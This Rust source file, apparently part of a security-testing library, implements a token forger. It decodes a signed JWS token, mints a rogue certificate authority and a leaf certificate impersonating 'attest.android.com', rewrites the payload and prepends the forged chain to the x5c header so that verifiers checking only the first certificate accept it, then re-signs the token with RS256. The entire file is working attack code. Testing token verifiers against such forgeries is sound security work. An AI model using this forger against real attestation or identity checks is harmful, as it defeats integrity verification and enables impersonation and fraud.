// Copyright (c) Microsoft Corporation.
// Licensed under the MIT License.

use base64::engine::general_purpose::STANDARD;
use base64::Engine as _;
use rsa::pkcs1v15::SigningKey;
use serde_json::Value;
use sha2::Sha256;
use signature::{SignatureEncoding as _, Signer as _};

use jwsforge_authority::{issue_authority, issue_leaf, IssuerError, KeyMaterialProvider};
use jwsforge_common::{
    decode_token, encode_token, TokenDecodeError, ALG_RS256, HEADER_ALG, HEADER_CERT_CHAIN,
};

/// Default subject for the forged authority.
pub const DEFAULT_AUTHORITY_SUBJECT: &str = "chain-of-fools rogue CA";
/// Default impersonated service identity for the forged leaf.
pub const DEFAULT_LEAF_IDENTITY: &str = "attest.android.com";

#[derive(thiserror::Error, Debug)]
pub enum ForgeError {
    #[error(transparent)]
    Token(#[from] TokenDecodeError),
    #[error(transparent)]
    Issuer(#[from] IssuerError),
    #[error("token header carries no x5c certificate chain")]
    MissingChain,
    #[error("token signing failed: {0}")]
    Signing(String),
}

/// Identities minted into the forged certificate pair.
#[derive(Debug, Clone)]
pub struct ForgeOptions {
    /// Subject of the rogue authority certificate.
    pub authority_subject: String,
    /// Service identity the forged leaf impersonates (its subject
    /// alternative name).
    pub leaf_identity: String,
}

impl Default for ForgeOptions {
    fn default() -> Self {
        Self {
            authority_subject: DEFAULT_AUTHORITY_SUBJECT.to_string(),
            leaf_identity: DEFAULT_LEAF_IDENTITY.to_string(),
        }
    }
}

/// Forge a token: transform its payload and re-sign it under a freshly
/// minted rogue certificate chain.
///
/// Steps:
/// 1. Decode the compact token (malformed input propagates unmodified).
/// 2. Mint a rogue authority and a leaf impersonating the target identity.
/// 3. Apply the caller's payload transform (opaque bytes in, bytes out; no
///    schema is imposed on it).
/// 4. Prepend `[leaf, authority]` (standard padded base64 of DER) to the
///    header's existing `x5c` list. The original chain stays appended after
///    the forged pair: a verifier that only inspects the first entry sees
///    the forgery, while one that walks the whole chain still sees the
///    legitimate chain behind it.
/// 5. Sign `base64url(header) + "." + base64url(payload)` with the leaf key
///    (RS256) and re-encode.
///
/// The forged key material is ephemeral; there are no side effects beyond
/// the returned bytes.
pub fn forge_token(
    raw: &[u8],
    payload_transform: impl FnOnce(&[u8]) -> Vec<u8>,
    options: &ForgeOptions,
    provider: &dyn KeyMaterialProvider,
) -> Result<Vec<u8>, ForgeError> {
    let token = decode_token(raw)?;
    let mut header = token.header;

    let authority = issue_authority(&options.authority_subject, provider)?;
    let leaf = issue_leaf(&options.leaf_identity, &authority, provider)?;

    let payload = payload_transform(&token.payload);

    let mut chain = vec![
        Value::String(STANDARD.encode(leaf.cert_der())),
        Value::String(STANDARD.encode(authority.cert_der())),
    ];
    match header.get_array(HEADER_CERT_CHAIN) {
        Some(original) => chain.extend(original.iter().cloned()),
        None => return Err(ForgeError::MissingChain),
    }
    header.insert(HEADER_CERT_CHAIN, Value::Array(chain));
    // The new signature is RS256 regardless of what the input declared.
    header.insert(HEADER_ALG, Value::String(ALG_RS256.to_string()));

    let signing_key = SigningKey::<Sha256>::new(leaf.private_key().clone());
    let message = jwsforge_common::signing_input(&header, &payload);
    let signature = signing_key
        .try_sign(&message)
        .map_err(|e| ForgeError::Signing(e.to_string()))?
        .to_vec();

    Ok(encode_token(&header, &payload, &signature))
}
